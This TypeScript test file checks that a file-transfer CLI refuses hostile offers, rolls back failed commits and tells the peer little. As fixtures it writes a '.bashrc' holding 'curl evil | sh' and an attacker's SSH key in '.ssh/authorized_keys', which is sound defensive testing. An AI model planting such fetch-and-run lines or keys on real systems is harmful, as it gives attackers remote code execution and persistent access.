/**
 * End to end, the real bin/sealdrop receiving: what an offer may put into the destination without
 * the person's leave (PROTOCOL.md section 6 step 2), that a failed commit lands nothing (section 6),
 * and what a refusal before ACCEPT tells the peer (only the code; the person sees the details).
 */
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect } from 'vitest';
import { Intent } from '../../src/protocol/handshake-messages.js';
import { RecordType } from '../../src/protocol/records.js';
import { partFileName } from '../../src/files/destination.js';
import { MAX_REFUSED_OFFERS } from '../../src/session/receive-session.js';
import { DEFAULT_WAIT_MS, expectAwaitingCorrectedOffer, killLeftovers, LOOPBACK, SEALDROP_BIN } from '../support/cli.js';
import { e2e, type E2EScope } from '../support/e2e.js';
import { listTree, setMtimeExactMs, sha256Hex } from '../support/files.js';
import { parseJsonLines } from '../support/json-lines.js';
import { TestPeer } from '../support/test-peer.js';

afterAll(killLeftovers);

const CODE = '5-guarded-offer-test';
const MTIME_MS = 1_700_000_000_000;

/** Writes `files` (relative path → content) below `root`, creating directories. */
function writeTree(root: string, files: Readonly<Record<string, string>>): void {
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    writeFileSync(path.join(root, name), content);
  }
}

/** A receiver with a fixed code and a hostile sender past the handshake. */
async function receiverAndPeer(sd: E2EScope, args: readonly string[] = ['--yes']) {
  const receiver = await sd.startReceiver({ out: sd.ws.out, code: CODE, args });
  const peer = await TestPeer.connect(receiver.port);
  sd.sockets.push(peer.socket);
  await peer.handshake('initiator', CODE, Intent.SEND);
  return { receiver, peer };
}

function offer(peer: TestPeer, files: ReadonlyArray<{ path: string; size: number }>): void {
  const entries = files.map((f) => ({ ...f, mode: 0o644, mtime: MTIME_MS }));
  const totalBytes = entries.reduce((sum, f) => sum + f.size, 0);
  peer.send(RecordType.OFFER, { kind: 'files', name: 'a few files', fileCount: entries.length, totalBytes, files: entries });
}

/** Each file of the offer whole, in order, from offset 0: FILE, one DATA, FILE_END. */
function sendWhole(peer: TestPeer, contents: readonly string[]): void {
  for (const [index, content] of contents.entries()) {
    peer.send(RecordType.FILE, { index, offset: 0 });
    peer.send(RecordType.DATA, Buffer.from(content));
    peer.send(RecordType.FILE_END, { sha256: sha256Hex(content) });
  }
}

/** The ERROR the peer got: its code and message. */
async function errorTo(peer: TestPeer): Promise<{ code: string; message: string }> {
  const record = await peer.nextRecord();
  expect(record?.type).toBe(RecordType.ERROR);
  return JSON.parse(record!.body.toString());
}

describe('section 6 step 2: the top-level entries of an offer', () => {
  e2e('the attack of issue 10: holiday photos with .ssh/authorized_keys and .bashrc into a home that has .ssh/ — refused with --yes, nothing written, all entries listed even with --quiet', async ({ sd }) => {
    const photos = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`holiday/IMG_${1000 + i}.jpg`, `photo ${i}\n`]));
    writeTree(sd.ws.src, { ...photos, '.ssh/authorized_keys': 'ssh-ed25519 AAAA attacker\n', '.bashrc': 'curl evil | sh\n' });
    writeTree(sd.ws.out, { '.ssh/known_hosts': 'mine\n' });
    const before = listTree(sd.ws.out);

    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--quiet'] });
    const sources = ['holiday', '.ssh', '.bashrc'].map((name) => path.join(sd.ws.src, name));
    const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: sources });
    await sender.expectExit(5);
    await expectAwaitingCorrectedOffer(receiver.process);

    const shown = receiver.process.stderr;
    expect(shown).toMatch(/^It puts 3 top-level entries into .*:$/m);
    expect(shown).toMatch(/^ {2}holiday\/ {2}10 files, 80 B$/m);
    expect(shown).toMatch(/^ {2}\.ssh\/ {2}1 file, 26 B {2}\(ALREADY EXISTS here, hidden\)$/m);
    expect(shown).toMatch(/^ {2}\.bashrc {2}15 B {2}\(hidden\)$/m);
    expect(shown).toMatch(/^sealdrop: warning: refused the offer: E_BAD_PATH: the offer would create hidden \.ssh\/, \.bashrc in the destination; receive with --merge/m);
    expect(sender.stderr).toMatch(/^sealdrop: E_BAD_PATH: .*the receiver refused the offer \(E_BAD_PATH\)$/m);
    expect(listTree(sd.ws.out)).toEqual(before);
  });

  e2e('an offer into an existing bin/ is refused with --yes (E_EXISTS), and lands with --merge; --json still lists the entries', async ({ sd }) => {
    writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', 'notes.txt': 'hello\n' });
    writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
    const sources = [path.join(sd.ws.src, 'bin'), path.join(sd.ws.src, 'notes.txt')];

    const refusing = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--json'] });
    const refused = sd.startSender({ to: refusing.address, code: refusing.code, paths: sources });
    await refused.expectExit(5);
    await expectAwaitingCorrectedOffer(refusing.process);
    expect(refusing.process.stderr).toMatch(/^ {2}bin\/ {2}1 file, 14 B {2}\(ALREADY EXISTS here\)$/m);
    expect(refusing.process.stderr).toMatch(/^ {2}notes\.txt {2}6 B$/m);
    expect(refusing.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_EXISTS: the offer would write into bin\/, which existed before it/m);
    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true']);

    const merging = await sd.startReceiver({ out: sd.ws.out, args: ['--yes', '--merge', '--json'] });
    const merged = sd.startSender({ to: merging.address, code: merging.code, paths: sources });
    await merged.expectExit(0);
    await merging.process.expectExit(0);
    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/ls', 'bin/true', 'notes.txt']);
    expect(parseJsonLines(merging.process.stdout).result.topLevel).toEqual([
      { name: 'bin', isDirectory: true, fileCount: 1, totalBytes: 14, existed: true },
      { name: 'notes.txt', isDirectory: false, fileCount: 1, totalBytes: 6, existed: false },
    ]);
    expect(merging.process.stderr).toMatch(/^ {2}bin\/ {2}1 file, 14 B {2}\(ALREADY EXISTS here\)$/m);
  });

  e2e('a transfer of a new directory that broke off, then resumed by the real sender, lands without --merge', async ({ sd }) => {
    const content = 'x'.repeat(64 * 1024);
    writeTree(sd.ws.src, { 'photos/a.bin': content });
    setMtimeExactMs(path.join(sd.ws.src, 'photos/a.bin'), MTIME_MS);

    const { receiver, peer } = await receiverAndPeer(sd);
    offer(peer, [{ path: 'photos/a.bin', size: content.length }]);
    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
    peer.send(RecordType.FILE, { index: 0, offset: 0 });
    peer.send(RecordType.DATA, Buffer.from(content.slice(0, 1000)));
    await new Promise((resolve) => setTimeout(resolve, 100)); // let the receiver write it
    peer.destroy();
    await receiver.process.waitForLine('stderr', /the transfer broke off/);
    expect(listTree(sd.ws.out)).toContain('photos/');

    const sender = sd.startSender({ to: receiver.address, code: CODE, paths: [path.join(sd.ws.src, 'photos')] });
    await sender.expectExit(0);
    await receiver.process.expectExit(0);
    expect(readFileSync(path.join(sd.ws.out, 'photos/a.bin'), 'utf8')).toBe(content);
    expect(listTree(sd.ws.out)).toEqual(['photos/', 'photos/a.bin']); // no working file left
  });

  e2e('another offer into a directory a broken-off transfer created needs --merge', async ({ sd }) => {
    const { receiver, peer } = await receiverAndPeer(sd);
    offer(peer, [{ path: 'photos/a.bin', size: 10 }]);
    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
    peer.destroy();
    await receiver.process.waitForLine('stderr', /the transfer broke off/);

    const other = await TestPeer.connect(receiver.port);
    sd.sockets.push(other.socket);
    await other.handshake('initiator', CODE, Intent.SEND);
    offer(other, [{ path: 'photos/b.bin', size: 10 }]);
    expect((await errorTo(other)).code).toBe('E_EXISTS');
    await expectAwaitingCorrectedOffer(receiver.process);
  });
});

describe('section 6: a failed commit lands nothing', () => {
  e2e("the trigger of issue 10: an entry named like another entry's part record is refused (E_BAD_PATH), nothing written", async ({ sd }) => {
    const { receiver, peer } = await receiverAndPeer(sd);
    offer(peer, [{ path: 'b.txt', size: 3 }, { path: `${partFileName('a.txt')}.json`, size: 3 }, { path: 'a.txt', size: 3 }]);
    const error = await errorTo(peer);
    expect(error.code).toBe('E_BAD_PATH');
    expect(error.message).toContain('rule working-name'); // the peer's own path: it may be named
    await expectAwaitingCorrectedOffer(receiver.process);
    expect(listTree(sd.ws.out)).toEqual([]);
  });

  e2e('the second commit fails (its name appeared during the transfer): the first file is taken back, no part is left', async ({ sd }) => {
    const { receiver, peer } = await receiverAndPeer(sd);
    offer(peer, [{ path: 'a.txt', size: 3 }, { path: 'b.txt', size: 3 }]);
    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
    sendWhole(peer, ['aaa', 'bbb']);
    writeFileSync(path.join(sd.ws.out, 'b.txt'), 'someone else\n');
    peer.send(RecordType.DONE, {});
    expect((await errorTo(peer)).code).toBe('E_EXISTS');
    await receiver.process.expectExit(5);
    expect(listTree(sd.ws.out)).toEqual(['b.txt']);
    expect(readFileSync(path.join(sd.ws.out, 'b.txt'), 'utf8')).toBe('someone else\n');
  });

  e2e('with --overwrite, the second commit fails (a directory took its name): the file the first one replaced is back, no working file is left', async ({ sd }) => {
    writeFileSync(path.join(sd.ws.out, 'a.txt'), 'the original a\n');
    const { receiver, peer } = await receiverAndPeer(sd, ['--yes', '--overwrite']);
    offer(peer, [{ path: 'a.txt', size: 3 }, { path: 'b.txt', size: 3 }]);
    expect((await peer.nextRecord())?.type).toBe(RecordType.ACCEPT);
    sendWhole(peer, ['aaa', 'bbb']);
    mkdirSync(path.join(sd.ws.out, 'b.txt')); // --overwrite replaces only a regular file
    peer.send(RecordType.DONE, {});
    const error = await errorTo(peer);
    const status = await receiver.process.waitForExit();
    expect(listTree(sd.ws.out)).toEqual(['a.txt', 'b.txt/']);
    expect(readFileSync(path.join(sd.ws.out, 'a.txt'), 'utf8')).toBe('the original a\n');
    expect(error.code).toBe('E_EXISTS');
    expect(status, receiver.process.describe()).toBe(5);
    expect(receiver.process.stderr).toMatch(/^sealdrop: E_EXISTS: b\.txt is no longer a regular file/m);
  });
});

describe('a refusal before ACCEPT tells the peer only the code', () => {
  e2e('E_NO_SPACE: the free space stays with the receiver', async ({ sd }) => {
    const { receiver, peer } = await receiverAndPeer(sd);
    offer(peer, [{ path: 'huge.bin', size: 2 ** 52 }]);
    expect(await errorTo(peer)).toEqual({ code: 'E_NO_SPACE', message: 'the receiver refused the offer (E_NO_SPACE)' });
    await expectAwaitingCorrectedOffer(receiver.process);
    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_NO_SPACE: the offer needs \d+ bytes but the destination has \d+ free$/m);
  });

  e2e('E_EXISTS and a link in the destination: the real sender learns neither which path nor what is there', async ({ sd }) => {
    writeTree(sd.ws.src, { 'report.txt': 'new\n', 'docs/x.txt': 'x\n' });
    writeFileSync(path.join(sd.ws.out, 'report.txt'), 'old\n');
    for (const [source, expected] of [
      ['report.txt', /E_EXISTS: report\.txt already exists/],
      ['docs', /E_BAD_PATH: docs\/x\.txt would go through the symbolic link docs/],
    ] as const) {
      if (source === 'docs') symlinkSync(sd.ws.root, path.join(sd.ws.out, 'docs'));
      const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });
      const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, source)] });
      await sender.expectExit(5);
      await expectAwaitingCorrectedOffer(receiver.process);
      expect(receiver.process.stderr).toMatch(expected);
      expect(sender.stderr).toMatch(/^sealdrop: E_\w+: the other side stopped: the receiver refused the offer \(E_\w+\)$/m);
      expect(sender.stderr).not.toMatch(/already exists|symbolic link/);
    }
  });
});

describe('section 6 step 2: a refused offer leaves the code valid for a corrected one', () => {
  e2e('an offer into an existing directory is refused (E_EXISTS); the same receiver then takes the corrected send with the same code', async ({ sd }) => {
    writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', 'tools/ls': 'not really ls\n' });
    writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });

    const refused = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'bin')] });
    await refused.expectExit(5);
    expect(refused.stderr).toMatch(/^sealdrop: E_EXISTS: the other side stopped: the receiver refused the offer \(E_EXISTS\)$/m);
    await expectAwaitingCorrectedOffer(receiver.process);
    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_EXISTS: the offer would write into bin\/, which existed before it/m);
    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: the sender was told it was refused \(E_EXISTS\); the code is still valid: waiting for a corrected offer \(Ctrl-C to stop; 2 more refused offers spend the code\)$/m);
    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true']); // no part, lock or record of the refused offer

    const corrected = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'tools')] });
    await corrected.expectExit(0);
    await receiver.process.expectExit(0);
    expect(listTree(sd.ws.out)).toEqual(['bin/', 'bin/true', 'tools/', 'tools/ls']);
  });

  e2e(`${MAX_REFUSED_OFFERS} refused offers spend the code: the receiver ends with the last refusal, and a further send finds no one`, async ({ sd }) => {
    writeTree(sd.ws.src, { 'report.txt': 'new\n', '.bashrc': 'curl evil | sh\n' });
    writeFileSync(path.join(sd.ws.out, 'report.txt'), 'old\n');
    const receiver = await sd.startReceiver({ out: sd.ws.out, args: ['--yes'] });

    // Refusals of any kind count: E_EXISTS, E_BAD_PATH (a hidden name), E_EXISTS.
    const probes = ['report.txt', '.bashrc', 'report.txt'];
    for (const [index, name] of probes.entries()) {
      const sender = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, name)] });
      await sender.expectExit(5);
      const left = MAX_REFUSED_OFFERS - index - 1;
      if (left > 0) await receiver.process.waitForLine('stderr', new RegExp(`\\(Ctrl-C to stop; ${left} more refused offers? spends? the code\\)$`));
    }
    await receiver.process.expectExit(5);
    expect(receiver.process.stderr).toMatch(/^sealdrop: warning: refused the offer: E_BAD_PATH: the offer would create hidden \.bashrc/m);
    expect(receiver.process.stderr).toMatch(/^sealdrop: E_EXISTS: report\.txt already exists \(use --overwrite to replace it\); after 3 refused offers the code is spent: start a new receive for a new code$/m);

    const late = sd.startSender({ to: receiver.address, code: receiver.code, paths: [path.join(sd.ws.src, 'report.txt')] });
    await late.expectExit(1);
    expect(late.stderr).toMatch(/^sealdrop: E_CONNECT: /m);
    expect(listTree(sd.ws.out)).toEqual(['report.txt']);
    expect(readFileSync(path.join(sd.ws.out, 'report.txt'), 'utf8')).toBe('old\n');
  });
});

/** `script` (util-linux) gives the receiver a terminal, so that it asks instead of declining. */
const hasScript = spawnSync('script', ['--version']).status === 0;

describe.runIf(hasScript)('section 6 step 2 at a terminal (needs script(1) from util-linux)', () => {
  /** Runs `sealdrop receive` on a pseudo-terminal; `answer` is typed once the question shows. */
  async function askedReceiver(sd: E2EScope, answer: string) {
    const quoted = (word: string) => `'${word}'`; // the test's own paths: no quote in them
    const command = `stty cols 100 rows 40; exec ${quoted(process.execPath)} ${quoted(SEALDROP_BIN)} receive --quiet --host ${LOOPBACK} --port 0 --out ${quoted(sd.ws.out)}`;
    const child = spawn('script', ['-qfec', command, '/dev/null'], { env: { ...process.env, SEALDROP_CODE: CODE }, stdio: ['pipe', 'pipe', 'pipe'] });
    let shown = '';
    child.stdout.on('data', (chunk: Buffer) => (shown += chunk.toString().replace(/\r/g, '')));
    const exited = new Promise<number | null>((resolve) => child.once('close', resolve));
    const waitFor = async (pattern: RegExp) => {
      for (let waited = 0; !pattern.test(shown); waited += 20) {
        if (waited > DEFAULT_WAIT_MS || child.exitCode !== null) throw new Error(`no ${pattern} in:\n${shown}`);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      return pattern.exec(shown)!;
    };
    const port = Number((await waitFor(/--to 127\.0\.0\.1:(\d+)/))[1]);
    const answered = waitFor(/\[y\/N\] /).then(() => child.stdin.write(`${answer}\n`));
    answered.catch(() => undefined);
    return { port, answered, exited, shown: () => shown, kill: () => child.kill('SIGKILL') };
  }

  for (const [answer, status, landed] of [['y', 0, true], ['n', 4, false]] as const) {
    e2e(`the question names the existing bin/ and the hidden .bashrc; "${answer}" ${landed ? 'merges' : 'declines'}`, async ({ sd }) => {
      writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', '.bashrc': 'curl evil | sh\n' });
      writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
      const receiver = await askedReceiver(sd, answer);
      try {
        const sources = [path.join(sd.ws.src, 'bin'), path.join(sd.ws.src, '.bashrc')];
        const sender = sd.startSender({ to: `${LOOPBACK}:${receiver.port}`, code: CODE, paths: sources });
        await receiver.answered;
        expect(await sender.waitForExit(), sender.describe()).toBe(status);
        expect(await receiver.exited, receiver.shown()).toBe(status);
        expect(receiver.shown()).toContain('The offer writes into existing bin/, and creates hidden .bashrc. Accept 2 files (29 B) and merge? [y/N] ');
        expect(listTree(sd.ws.out)).toEqual(landed ? ['.bashrc', 'bin/', 'bin/ls', 'bin/true'] : ['bin/', 'bin/true']);
      } finally {
        receiver.kill();
      }
    });
  }
});
